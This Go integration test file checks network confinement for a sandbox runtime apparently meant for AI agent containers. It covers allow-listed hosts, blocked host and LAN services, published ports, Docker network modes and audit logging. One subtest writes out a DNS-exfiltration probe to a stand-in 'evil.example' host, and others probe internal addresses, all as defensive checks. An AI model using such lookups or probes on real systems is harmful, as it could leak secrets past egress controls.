package engines

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"nemoclaw/integration/world"
)

// An agent's usual programs get what is listed, over verified TLS, and learn
// the reason where something is not.
func TestAgentReachesOnlyWhatIsListed(t *testing.T) {
	box := started(t, "agent", append(trustingWorld(t), "debian", "sh", "-c", idle)...)
	for _, c := range []struct {
		name    string
		program []string
		says    string
		code    int
	}{
		{"git clone", []string{"sh", "-c", "git clone -q https://" + listed + "/repo.git /sandbox/repo && git -C /sandbox/repo log --format=%s"}, "a commit of the world's\n", 0},
		{"curl", []string{"curl", "-sS", "https://" + listed + "/hello"}, theirs, 0},
		{"python's urllib", []string{"python3", "-c", "import urllib.request as u; print(u.urlopen('https://" + listed + "/hello').read().decode(), end='')"}, theirs, 0},
		{"curl, plain HTTP", []string{"curl", "-sS", "http://" + plain + "/hello"}, theirs, 0},
		{"git clone, unlisted", []string{"git", "clone", "-q", "https://" + unlisted + "/repo.git", "/sandbox/other"}, "Access was denied", 128},
		{"curl, unlisted", []string{"curl", "-sS", "https://" + unlisted + "/hello"}, "alert access denied", 35},
		{"python's urllib, unlisted", []string{"python3", "-c", "import urllib.request as u; u.urlopen('https://" + unlisted + "/hello')"}, "TLSV1_ALERT_ACCESS_DENIED", 1},
		{"curl, plain HTTP, unlisted", []string{"curl", "-sS", "http://" + unlisted + "/hello"}, `"reason":"not-listed"`, 0},
		{"a listed host on another port", []string{"curl", "-sS", "http://" + listed + "/hello"}, `"reason":"not-listed"`, 0},
		{"a listed address, by number", []string{"curl", "-sS", "http://" + address(t, plain) + "/hello"}, `"reason":"direct-address"`, 0},
		{"another name over an allowed connection", []string{"curl", "-sS", "-H", "Host: " + unlisted, "http://" + plain + "/hello"}, `"reason":"name-mismatch"`, 0},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := docker(t, append([]string{"exec", box}, c.program...)...)
			if got.code != c.code || !strings.Contains(got.out+got.err, c.says) {
				t.Errorf("%v\nwant exit code %d and %q", got, c.code, c.says)
			}
		})
	}
	if slices.Contains(outer.Questions(), unlisted) {
		t.Errorf("the name server was asked for %s", unlisted)
	}
	t.Run("all of it is on record", func(t *testing.T) {
		log := nemoclawctl(t, "log", id(t, box))
		for _, want := range []string{listed + ":443", plain + ":80", unlisted + ":443", "not-listed", "direct-address", "name-mismatch", "/usr/bin/curl"} {
			if !strings.Contains(log, want) {
				t.Errorf("the log says nothing of %s:\n%s", want, log)
			}
		}
	})
}

// What runc's containers reach beside the internet, a sandbox does not: each
// line is a place whose server answers runc's.
func TestNeighboursAreOutOfReach(t *testing.T) {
	docker(t, "version")
	onHost := greeter(t, bridge+":0")
	must(t, "run", "-d", "--name=neighbour", "busybox", "sh", "-c", serve)
	removed(t, "neighbour")
	awaitLine(t, dockerd.client("logs", "-f", "neighbour"), "ready")
	for _, c := range []struct{ name, url string }{
		{"a service of the host, at the bridge", fmt.Sprintf("http://%s/", onHost)},
		{"docker's socket proxy port of a neighbour", "http://" + ip(t, "neighbour") + "/"},
		{"a machine of the LAN", "http://" + world.Neighbour.String() + "/"},
	} {
		t.Run(c.name, func(t *testing.T) {
			fetch := []string{"busybox", "timeout", "5", "wget", "-qO-", c.url}
			if s := docker(t, append([]string{"run", "--rm"}, fetch...)...); s.code != 0 {
				t.Fatalf("not even runc's container reaches it: %v", s)
			}
			if s := docker(t, append([]string{"run", "--rm", "--runtime=nemoclaw"}, fetch...)...); s.code != 1 || !strings.Contains(s.err, "403 Forbidden") {
				t.Errorf("from the sandbox: %v", s)
			}
		})
	}
	t.Run("a service of the host that a rule names, by --add-host", func(t *testing.T) {
		_, port, _ := net.SplitHostPort(onHost)
		write(t, "/etc/nemoclaw/policies/live.yaml", policy+"    - {host: host.docker.internal, port: "+port+", allow_private: [172.30.0.0/24]}\n")
		fetch := func(add string) said {
			return docker(t, "run", "--rm", "--runtime=nemoclaw-live", "--add-host="+add, "busybox", "timeout", "5", "wget", "-qO-", "http://host.docker.internal:"+port+"/")
		}
		if s := fetch("host.docker.internal:" + bridge); s.out != theirs {
			t.Error(s)
		}
		if s := fetch("host.docker.internal:" + world.Neighbour.String()); s.code != 1 || s.out != "" {
			t.Errorf("the name at an address that the rule does not name: %v", s)
		}
	})
	t.Run("the host's loopback", func(t *testing.T) {
		_, port, _ := net.SplitHostPort(greeter(t, "127.0.0.1:0"))
		if s := docker(t, "run", "--rm", "--runtime=nemoclaw", "busybox", "timeout", "5", "wget", "-qO-", "http://127.0.0.1:"+port+"/"); s.code != 1 || s.out != "" {
			t.Error(s)
		}
	})
}

// A published port works as with runc; a closed one refuses; ingress: none
// shuts them all.
func TestPublishedPorts(t *testing.T) {
	started(t, "server", "-p=8080:80", "-p=8081:81", "busybox", "sh", "-c", serve)
	started(t, "deaf", "--runtime=nemoclaw-deaf", "-p=8082:80", "busybox", "sh", "-c", serve)
	from := map[string]func(netip.AddrPort) (net.Conn, error){
		"outside": outer.Dial,
		"the host": func(a netip.AddrPort) (net.Conn, error) {
			return net.Dial("tcp", a.String())
		},
	}
	for _, c := range []struct {
		name, from, to string
		open           bool
	}{
		{"from outside", "outside", world.UplinkAddr.String() + ":8080", true},
		{"from the host, by its loopback", "the host", "127.0.0.1:8080", true},
		{"from the host, by the container's address", "the host", ip(t, "server") + ":80", true},
		{"a port that nothing listens on", "outside", world.UplinkAddr.String() + ":8081", false},
		{"ingress: none", "outside", world.UplinkAddr.String() + ":8082", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			page, err := get(from[c.from], c.to)
			if open := strings.HasSuffix(page, "a page\n"); open != c.open {
				t.Errorf("open: %v; got %q, %v", open, page, err)
			}
		})
	}
	t.Run("who called is in the audit log", func(t *testing.T) {
		ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
		defer cancel()
		about := func(ingress string, port int) string {
			return fmt.Sprintf(`"port":%d},"connection_info":{"protocol_name":"tcp","protocol_num":6,"direction_id":1},"firewall_rule":{"name":"network.ingress: %s"},`, port, ingress)
		}
		for _, c := range []struct{ of, line string }{
			{"server", `"src_endpoint":{"ip":"` + world.Router.String() + `",`},
			{"server", `"dst_endpoint":{"ip":"` + ip(t, "server") + `",` + about("all", 80) + `"traffic":{"bytes_in":`},
			{"server", about("all", 81) + `"traffic":{"bytes_in":60,"bytes_out":40,"packets_in":1,"packets_out":1},"unmapped":{`},
			{"deaf", about("none", 80) + `"unmapped":{`},
		} {
			awaitLine(t, exec.CommandContext(ctx, filepath.Join(installed(), "nemoclawctl"), "log", "-f", "--json", id(t, c.of)), c.line)
		}
	})
	t.Run("a sandbox does not reach another's", func(t *testing.T) {
		if s := docker(t, "run", "--rm", "--runtime=nemoclaw", "busybox", "timeout", "5", "wget", "-qO-", "http://"+ip(t, "server")+"/"); s.code != 1 || !strings.Contains(s.err, "403 Forbidden") {
			t.Error(s)
		}
	})
}

// get asks for / and returns whatever came until the end.
func get(dial func(netip.AddrPort) (net.Conn, error), to string) (string, error) {
	c, err := dial(netip.MustParseAddrPort(to))
	if err != nil {
		return "", err
	}
	defer c.Close()
	if _, err := io.WriteString(c, "GET / HTTP/1.0\r\n\r\n"); err != nil {
		return "", err
	}
	b, err := io.ReadAll(c)
	return string(b), err
}

// Docker's other networks.
func TestNetworks(t *testing.T) {
	docker(t, "version")
	t.Run("none: nothing leaves, and the reason says so", func(t *testing.T) {
		s := docker(t, "run", "--rm", "--runtime=nemoclaw", "--network=none", "debian", "curl", "-sS", "http://"+plain+"/hello")
		if !strings.Contains(s.out, `"reason":"no-uplink"`) {
			t.Error(s)
		}
	})
	t.Run("host: refused, with a hint", func(t *testing.T) {
		s := docker(t, "run", "--rm", "--runtime=nemoclaw", "--network=host", "busybox", "true")
		if s.code != 125 || !strings.Contains(s.err, "no network namespace of its own") || !strings.Contains(s.err, "leave out --network host") {
			t.Error(s)
		}
	})
	t.Run("another container's: refused, with a hint, unless it is a sandbox", func(t *testing.T) {
		must(t, "run", "-d", "--name=lender", "busybox", "sh", "-c", idle)
		removed(t, "lender")
		s := docker(t, "run", "--rm", "--runtime=nemoclaw", "--network=container:lender", "busybox", "true")
		if s.code != 125 || !strings.Contains(s.err, "lives in it") || !strings.Contains(s.err, "must be one of nemoclaw's") {
			t.Error(s)
		}
	})
	t.Run("another sandbox's: both behind one gateway, until both have ended", func(t *testing.T) {
		first := started(t, "first", "busybox", "sh", "-c", serve)
		second := started(t, "second", "--network=container:"+first, "busybox", "sh", "-c", idle)
		page := func(box, url string) string { return must(t, "exec", box, "wget", "-qO-", url) }
		if got := page(second, "http://127.0.0.1/"); got != "a page" {
			t.Errorf("the first one's server by loopback: %q", got)
		}
		for _, box := range []string{first, second} {
			if got := page(box, "http://"+plain+"/hello"); got+"\n" != theirs {
				t.Errorf("%s got %q", box, got)
			}
			if s := docker(t, "exec", box, "wget", "-qO-", "http://"+later+"/hello"); s.code != 1 || !strings.Contains(s.err, "403 Forbidden") {
				t.Errorf("%s: what is not listed: %v", box, s)
			}
			if log := nemoclawctl(t, "log", "--json", id(t, second)); !strings.Contains(log, `"container":{"uid":"`+id(t, box)+`"}`) {
				t.Errorf("the log does not tell of %s:\n%s", box, log)
			}
		}
		if s := docker(t, "run", "--rm", "--runtime=nemoclaw-deaf", "--network=container:"+first, "busybox", "true"); s.code == 0 || !strings.Contains(s.err, "network of policy deaf") {
			t.Errorf("with another policy: %v", s)
		}
		must(t, "rm", "-f", first)
		// Docker unplugs what was the first one's: a moment later there is no way out.
		must(t, "exec", second, "timeout", "20", "sh", "-c", "until timeout 2 wget -qO- http://"+plain+"/hello 2>&1 | grep 403; do sleep 0.1; done")
	})
	must(t, "network", "create", "--subnet=172.30.7.0/24", "team")
	t.Cleanup(func() { docker(t, "network", "rm", "team") })
	t.Run("user-defined: what is listed", func(t *testing.T) {
		if got := must(t, "run", "--rm", "--runtime=nemoclaw", "--network=team", "busybox", "wget", "-qO-", "http://"+plain+"/hello"); got+"\n" != theirs {
			t.Errorf("said %q", got)
		}
	})
	t.Run("user-defined: docker's resolver is the gateway", func(t *testing.T) {
		const name = "a-secret.evil.example"
		must(t, "run", "--rm", "--network=team", "busybox", "sh", "-c", "nslookup "+name+" 127.0.0.11 || true")
		if !slices.Contains(outer.Questions(), name) {
			t.Fatal("runc's container does not leak a name this way, so that the test shows nothing")
		}
		const other = "another-secret.evil.example"
		out := must(t, "run", "--rm", "--runtime=nemoclaw", "--network=team", "busybox", "sh", "-c", "nslookup -type=a "+other+" 127.0.0.11 || true")
		if slices.Contains(outer.Questions(), other) || !strings.Contains(out, "198.18.") {
			t.Errorf("the name server was asked for it, or the gateway not: %s", out)
		}
	})
	t.Run("user-defined: others reach the sandbox by its service name", func(t *testing.T) {
		started(t, "service", "--network=team", "busybox", "sh", "-c", serve)
		if got := must(t, "run", "--rm", "--network=team", "busybox", "wget", "-qO-", "http://service/"); got != "a page" {
			t.Errorf("said %q", got)
		}
	})
	t.Run("connect and disconnect while it runs", func(t *testing.T) {
		box := started(t, "mover", "busybox", "sh", "-c", serve)
		must(t, "network", "connect", "team", box)
		// The link is moved a moment later.
		knock := "until wget -qO- http://" + box + "/; do sleep 0.1; done"
		if got := must(t, "run", "--rm", "--network=team", "busybox", "timeout", "10", "sh", "-c", knock); got != "a page" {
			t.Errorf("over the new network: %q", got)
		}
		fetch := func(until string) string {
			return must(t, "exec", box, "timeout", "20", "sh", "-c", "until timeout 2 wget -qO- http://"+plain+"/hello 2>&1 | grep "+until+"; do sleep 0.1; done")
		}
		must(t, "network", "disconnect", "bridge", box)
		if got := fetch("hello"); got+"\n" != theirs {
			t.Errorf("by the second network alone: %q", got)
		}
		must(t, "network", "disconnect", "team", box)
		fetch("403")
		must(t, "network", "connect", "bridge", box)
		if got := fetch("hello"); got+"\n" != theirs {
			t.Errorf("plugged in again: %q", got)
		}
		if log := nemoclawctl(t, "log", id(t, box)); !strings.Contains(log, "no-uplink") {
			t.Errorf("the log does not say that there was no way out:\n%s", log)
		}
	})
	t.Run("user-defined: another container, where the policy lists its address", func(t *testing.T) {
		write(t, "/etc/nemoclaw/policies/live.yaml", policy+"    - {cidr: 172.30.7.0/24, port: 80, allow_private: [172.30.7.0/24]}\n")
		box := started(t, "colleague", "--network=team", "busybox", "sh", "-c", serve)
		at := must(t, "inspect", "--format={{.NetworkSettings.Networks.team.IPAddress}}", box)
		if got := must(t, "run", "--rm", "--runtime=nemoclaw-live", "--network=team", "busybox", "wget", "-qO-", "http://"+at+"/"); got != "a page" {
			t.Errorf("said %q", got)
		}
	})
}

// greeter answers every connection to addr with an HTTP page, on this host,
// and returns where it listens.
func greeter(t *testing.T, addr string) string {
	t.Helper()
	l, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go greet(l)
	return l.Addr().String()
}
